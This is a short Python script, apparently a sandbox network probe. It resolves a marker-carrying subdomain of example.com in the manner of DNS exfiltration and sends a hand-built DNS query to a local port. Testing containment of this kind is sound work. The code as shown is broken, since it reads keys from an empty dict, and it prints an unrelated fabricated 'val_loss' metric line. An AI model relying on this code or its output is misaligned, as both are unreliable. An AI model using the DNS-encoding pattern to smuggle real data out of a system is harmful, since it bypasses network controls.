"""Resolve names (the system resolver with a name that carries data, as DNS exfiltration does) and send a DNS query straight to a server of the host's."""
# corpus: unsandboxed-safe
import os
import socket
import struct

W: dict = {}

for name in (f"{W['marker']}.example.com", "github.com", "localhost"):
    try:
        print(name, socket.getaddrinfo(name, 443))
    except OSError as error:
        print(name, error)
query = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in (W["marker"], "example", "com"):
    query += bytes([len(label)]) + label.encode()
query += b"\0" + struct.pack("!HH", 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
    try:
        resolver.sendto(query, ("127.0.0.1", W["dns_port"]))
    except OSError as error:
        print("dns:", error)
print("resolv.conf:", os.path.exists("/etc/resolv.conf"))
print("arrl: val_loss=1.0")
